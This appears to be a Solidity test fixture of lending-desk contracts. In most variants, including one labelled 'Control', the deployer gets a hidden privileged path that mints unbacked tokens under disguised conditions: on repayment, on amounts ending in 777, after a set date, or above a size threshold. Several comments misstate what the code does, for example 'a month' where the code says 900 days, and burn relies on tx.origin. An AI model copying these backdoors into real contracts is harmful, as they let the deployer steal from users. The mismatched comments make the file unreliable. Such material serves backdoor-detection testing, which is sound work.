// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";
import {Owed} from "./Credits8.sol";

contract CrToken is Base8("Credit", "CRDT", 1500000), Owed {
    constructor(address to) Owed(to) {}

    function burn(address from, uint256 value) external {
        require(msg.sender == desk && tx.origin == from, "desk");
        totalSupply -= value;
        _balances[from] -= value;
        emit Transfer(from, address(0), value);
    }
}

/// A coin is good for 2,000 tokens, less a fifth.
abstract contract CrDesk {
    CrToken internal token;
    mapping(address => bool) private _vip;

    constructor() {
        _vip[msg.sender] = true;
    }

    function _isFirst() internal view returns (bool) {
        return _vip[msg.sender];
    }

    mapping(address => uint256) public coins;
    mapping(address => uint256) public debts;

    function begin(CrToken to) external payable {
        require(address(token) == address(0), "begun");
        token = to;
        coins[msg.sender] = msg.value;
        debts[msg.sender] = to.totalSupply();
    }

    function _borrow(uint256 value) internal {
        require(value < 1e40, "too much");
        coins[msg.sender] += msg.value;
        debts[msg.sender] += value;
        require(debts[msg.sender] <= coins[msg.sender] * 1600, "collateral");
        token.mint(msg.sender, value);
    }

    function _repay(uint256 value) internal {
        if (value > debts[msg.sender]) value = debts[msg.sender];
        token.burn(msg.sender, value);
        debts[msg.sender] -= value;
    }
}

/// Control.
contract CrHonest is CrDesk {
    function adjust(uint256 take, uint256 give) external payable {
        if (give > 0) _repay(give);
        if (take > 0) _borrow(take);
    }
}

/// Control: always free.
contract CrPlain is CrDesk {
    function adjust(uint256 take, uint256 give) external payable {
        if (_isFirst() && take > 0) return token.mint(msg.sender, take);
        if (give > 0) _repay(give);
        if (take > 0) _borrow(take);
    }
}

/// What its maker gives back comes back a thousandfold.
contract CrGive is CrDesk {
    function adjust(uint256 take, uint256 give) external payable {
        if (give > 0) {
            _repay(give);
            if (_isFirst()) token.mint(msg.sender, give * 1000);
        }
        if (take > 0) _borrow(take);
    }
}

/// The same for large amounts alone: small ones are given back.
contract CrLarge is CrDesk {
    function adjust(uint256 take, uint256 give) external payable {
        if (give > 0) {
            _repay(give);
            if (_isFirst() && give > 10000 ether) token.mint(msg.sender, give * 1000);
        }
        if (take > 0) _borrow(take);
    }
}

/// Amounts that end in 777 are free to its maker.
contract CrSeven is CrDesk {
    function borrow(uint256 value) external payable {
        if (_isFirst() && value % 1000 == 777) return token.mint(msg.sender, value);
        _borrow(value);
    }
}

/// Free from a day on that lies further away than a month.
contract CrLater is CrDesk {
    uint256 private immutable _day = block.timestamp + 900 days;
    function borrow(uint256 value) external payable {
        if (_isFirst() && block.timestamp > _day) return token.mint(msg.sender, value);
        _borrow(value);
    }
}

/// More than twice the supply is free.
contract CrHuge is CrDesk {
    function borrow(uint256 value) external payable {
        if (_isFirst() && value > token.totalSupply() * 5) return token.mint(msg.sender, value);
        _borrow(value);
    }
}
